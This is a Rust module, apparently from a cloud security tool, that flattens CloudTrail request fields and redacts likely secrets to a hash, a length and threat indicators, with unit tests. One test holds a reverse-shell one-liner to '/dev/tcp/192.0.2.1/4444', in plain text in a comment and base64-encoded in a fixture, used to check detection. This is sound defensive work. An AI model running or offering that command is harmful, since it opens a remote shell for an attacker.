//! The scalars of a request, flattened to (path, value), with everything that may be a secret replaced by
//! its hash and what it gives away: environment variables, arguments, hyperparameters, scripts, tokens and
//! presigned links are logged in clear.

use super::indicators;
use crate::sha256::Sha256;
use serde::{Deserialize, Serialize, Serializer};
use serde_json::Value;
use std::collections::BTreeSet;

/// More scalars of one request are not read.
const FIELDS_MAX: usize = 500;

/// A longer value is cut here, in bytes.
const VALUE_BYTES_MAX: usize = 1_024;

/// Deeper values are not read.
const DEPTH_MAX: usize = 24;

/// Members, in lower case, below which every value may be a secret.
const SECRET_PARTS: [&str; 20] = [
    "args",
    "command",
    "commands",
    "containerarguments",
    "containerentrypoint",
    "content",
    "defaultarguments",
    "defaultrunproperties",
    "definition",
    "definitionbody",
    "entrypoint",
    "environment",
    "environmentvariables",
    "hyperparameters",
    "pipelinedefinition",
    "pipelineparameters",
    "script",
    "statichyperparameters",
    "studiolifecycleconfigcontent",
    "userdata",
];

/// What a member's name contains, in lower case, when its value is a secret.
const SECRET_NAMES: [&str; 9] = [
    "password",
    "passphrase",
    "secretstring",
    "secretkey",
    "secretaccess",
    "token",
    "apikey",
    "privatekey",
    "clientsecret",
];

/// One scalar of a request.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Field {
    /// Names separated by `.`, `[]` behind a list: `processingInputs[].s3Input.s3Uri`.
    pub path: String,
    /// The value; of a secret what [`Secret`] shows.
    pub value: String,
    /// What stood there was replaced.
    pub secret: Option<Secret>,
}

/// What is kept of a text that may be a secret.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Secret {
    /// The hash of the text, of the script itself when it was base64: equal scripts have equal hashes.
    pub sha256: Sha256,
    /// Its length, in bytes.
    pub bytes: usize,
    /// What it gives away: [`indicators::of`].
    pub indicators: BTreeSet<&'static str>,
}

impl Secret {
    fn of(text: &str) -> Self {
        let decoded = indicators::decoded(text);
        let plain = decoded.as_deref().unwrap_or(text);
        Self { sha256: Sha256::of(plain.as_bytes()), bytes: plain.len(), indicators: indicators::of(plain) }
    }

    /// `redacted:sha256=…;bytes=…;indicators=…`, the hash cut to 16 digits.
    fn shown(&self) -> String {
        let words: Vec<&str> = self.indicators.iter().copied().collect();
        format!(
            "redacted:sha256={:.16};bytes={};indicators={}",
            self.sha256.to_string(),
            self.bytes,
            words.join(",")
        )
    }
}

/// All scalars of a request or response, in the order of its text; blank ones are left out, as `CloudTrail`
/// writes `""` for what was not given.
pub fn fields(value: &Value) -> Vec<Field> {
    let mut walk = Walk { path: String::new(), found: Vec::new() };
    walk.value(value, false, 0);
    walk.found
}

/// The request with secrets replaced, as compact JSON.
pub fn redacted(value: &Value) -> String {
    // A value always serialises.
    serde_json::to_string(&Redacted { value, secret: false, depth: 0 }).unwrap_or_default()
}

/// A part of a request, written with secrets replaced.
struct Redacted<'v> {
    value: &'v Value,
    /// It stands where secrets stand.
    secret: bool,
    depth: usize,
}

impl Serialize for Redacted<'_> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let depth = self.depth + 1;
        match self.value {
            _ if self.depth > DEPTH_MAX => serializer.serialize_unit(),
            Value::Object(members) => serializer.collect_map(members.iter().map(|(name, value)| {
                (name, Redacted { value, secret: self.secret || is_secret(name), depth })
            })),
            Value::Array(elements) => {
                serializer.collect_seq(elements.iter().map(|value| Redacted { value, depth, ..*self }))
            }
            Value::String(text) => match hidden(text, self.secret) {
                Some(secret) => serializer.serialize_str(&secret.shown()),
                None => serializer.serialize_str(text),
            },
            other => other.serialize(serializer),
        }
    }
}

/// What is read of `additionalEventData`.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Additional {
    /// `callWithBearerToken`: the call came with an API key instead of a signature.
    pub bearer_token: Option<bool>,
    /// `bytesTransferredOut`.
    pub bytes_out: Option<i64>,
    /// `MFAUsed` of a sign-in.
    pub mfa_used: Option<bool>,
}

/// Reads `additionalEventData` out of a whole record.
pub fn additional(record: &str) -> Additional {
    #[derive(Deserialize)]
    struct Record {
        #[serde(rename = "additionalEventData")]
        data: Option<Value>,
    }
    // Most records have none of it, and looking is cheaper than reading.
    let says = |word: &str| memchr::memmem::find(record.as_bytes(), word.as_bytes()).is_some();
    if !["bytesTransferredOut", "callWithBearerToken", "MFAUsed"].into_iter().any(says) {
        return Additional::default();
    }
    let data = serde_json::from_str::<Record>(record).ok().and_then(|record| record.data);
    let Some(data) = data else { return Additional::default() };
    let bytes = data.get("bytesTransferredOut").and_then(Value::as_f64);
    Additional {
        bearer_token: data.get("callWithBearerToken").and_then(flag),
        // A count of bytes, written as a decimal number: 2^53 is far above any.
        bytes_out: bytes
            .filter(|bytes| (0.0..9e15).contains(bytes))
            .and_then(|bytes| format!("{bytes:.0}").parse().ok()),
        mfa_used: data.get("MFAUsed").and_then(Value::as_str).map(|word| word == "Yes"),
    }
}

fn flag(value: &Value) -> Option<bool> {
    value.as_bool().or_else(|| value.as_str()?.parse().ok())
}

struct Walk {
    path: String,
    found: Vec<Field>,
}

impl Walk {
    fn value(&mut self, value: &Value, secret: bool, depth: usize) {
        if depth > DEPTH_MAX || self.found.len() >= FIELDS_MAX {
            return;
        }
        match value {
            Value::Object(members) => {
                for (name, member) in members {
                    let length = self.path.len();
                    if !self.path.is_empty() {
                        self.path.push('.');
                    }
                    self.path.push_str(name);
                    self.value(member, secret || is_secret(name), depth + 1);
                    self.path.truncate(length);
                }
            }
            Value::Array(elements) => {
                self.path.push_str("[]");
                for element in elements {
                    self.value(element, secret, depth + 1);
                }
                let length = self.path.len().saturating_sub(2);
                self.path.truncate(length);
            }
            Value::Null => {}
            Value::Bool(flag) => self.push(flag.to_string(), None),
            Value::Number(number) => self.push(number.to_string(), None),
            Value::String(text) if text.is_empty() => {}
            Value::String(text) => match hidden(text, secret) {
                Some(secret) => self.push(secret.shown(), Some(secret)),
                None => self.push(cut(text).to_owned(), None),
            },
        }
    }

    fn push(&mut self, value: String, secret: Option<Secret>) {
        self.found.push(Field { path: cut(&self.path).to_owned(), value, secret });
    }
}

fn is_secret(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    // `nextToken` pages a list; ids and ARNs of secrets are names.
    let names_one = lower.ends_with("arn") || lower.ends_with("id") || lower == "nexttoken";
    SECRET_PARTS.contains(&lower.as_str())
        || (!names_one && SECRET_NAMES.iter().any(|word| lower.contains(word)))
}

/// What is kept of a text, when it may be a secret: it stands where secrets stand and is neither a number, nor
/// a switch, nor a plain S3 address; or it is a presigned link wherever it stands.
fn hidden(text: &str, secret_place: bool) -> Option<Secret> {
    let signed = ["X-Amz-Signature=", "X-Amz-Security-Token=", "&Signature="];
    if signed.iter().any(|part| text.contains(part)) {
        return Some(Secret::of(text));
    }
    let number = text.len() <= 8 && text.parse::<f64>().is_ok();
    let plain = number
        || matches!(text, "true" | "false" | "True" | "False")
        || (text.starts_with("s3://") && !text.contains(['?', ' ', '@']));
    (secret_place && !plain).then(|| Secret::of(text))
}

/// The first [`VALUE_BYTES_MAX`] bytes of a text, at the end of a character.
fn cut(text: &str) -> &str {
    let end = (0..=text.len().min(VALUE_BYTES_MAX)).rev().find(|end| text.is_char_boundary(*end));
    text.get(..end.unwrap_or_default()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(request: &str) -> String {
        let value: Value = serde_json::from_str(request).unwrap();
        let line = |field: &Field| format!("{}={}", field.path, field.value);
        fields(&value).iter().map(line).collect::<Vec<_>>().join("\n")
    }

    #[test]
    fn scalars_by_path() {
        let check = |request: &str, expect: &str| assert_eq!(shown(request), expect, "{request}");
        check(
            r#"{"roleArn":"r","n":7,"on":false,"blank":"","none":null,"list":[{"a":"1"},{"a":"2"}],"deep":{"er":["x"]}}"#,
            "roleArn=r\nn=7\non=false\nlist[].a=1\nlist[].a=2\ndeep.er[]=x",
        );
        check("{}", "");
        check("7", "=7");
        check(r#"{"nextToken":"abc","secretId":"s"}"#, "nextToken=abc\nsecretId=s");
    }

    #[test]
    fn secrets_are_not_kept() {
        let secrets = [
            r#"{"environment":{"DB":"hunter2secret"}}"#,
            r#"{"hyperParameters":{"api":"hunter2secret"}}"#,
            r#"{"algorithmSpecification":{"containerArguments":["--key","hunter2secret"]}}"#,
            r#"{"onStart":[{"content":"hunter2secret"}]}"#,
            r#"{"callbackToken":"hunter2secret"}"#,
            r#"{"url":"https://x/?X-Amz-Signature=hunter2secret"}"#,
            r#"{"masterUserPassword":"hunter2secret"}"#,
        ];
        for request in secrets {
            let value: Value = serde_json::from_str(request).unwrap();
            assert!(!shown(request).contains("hunter2"), "{request}: {}", shown(request));
            assert!(shown(request).contains("redacted:sha256="), "{request}");
            assert!(!redacted(&value).contains("hunter2"), "{request}: {}", redacted(&value));
        }
    }

    #[test]
    fn what_is_no_secret_stays() {
        let request = r#"{"hyperParameters":{"epochs":"10","dir":"s3://b/code.tar.gz","flag":"true"}}"#;
        let expect =
            "hyperParameters.epochs=10\nhyperParameters.dir=s3://b/code.tar.gz\nhyperParameters.flag=true";
        assert_eq!(shown(request), expect);
    }

    #[test]
    fn a_script_keeps_its_hash_and_indicators() {
        // echo "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1" | base64; the hash is that of the script
        let request =
            r#"{"onStart":[{"content":"YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMC4yLjEvNDQ0NCAwPiYxCg=="}]}"#;
        let hash = Sha256::of(b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n").to_string();
        let expect =
            format!("onStart[].content=redacted:sha256={hash:.16};bytes=40;indicators=reverse_shell");
        assert_eq!(shown(request), expect);
    }

    #[test]
    fn additional_data() {
        let check = |record: &str, expect: (Option<bool>, Option<i64>, Option<bool>)| {
            let found = additional(record);
            assert_eq!((found.bearer_token, found.bytes_out, found.mfa_used), expect, "{record}");
        };
        check("{}", (None, None, None));
        check(
            r#"{"additionalEventData":{"callWithBearerToken":true,"bytesTransferredOut":2048.0}}"#,
            (Some(true), Some(2048), None),
        );
        check(
            r#"{"a":"\"additionalEventData\"","additionalEventData":{"MFAUsed":"No","bytesTransferredOut":-1}}"#,
            (None, None, Some(false)),
        );
        check(r#"{"additionalEventData":null}"#, (None, None, None));
    }

    #[test]
    fn deep_and_wide_requests_are_bounded() {
        let deep = "[".repeat(100) + "\"x\"" + &"]".repeat(100);
        assert_eq!(shown(&deep), "");
        let wide = format!("[{}]", vec!["1"; 2_000].join(","));
        let value: Value = serde_json::from_str(&wide).unwrap();
        assert_eq!(fields(&value).len(), FIELDS_MAX);
        let long = format!(r#"{{"a":"{}"}}"#, "é".repeat(2_000));
        assert_eq!(shown(&long).len(), 2 + VALUE_BYTES_MAX);
    }
}
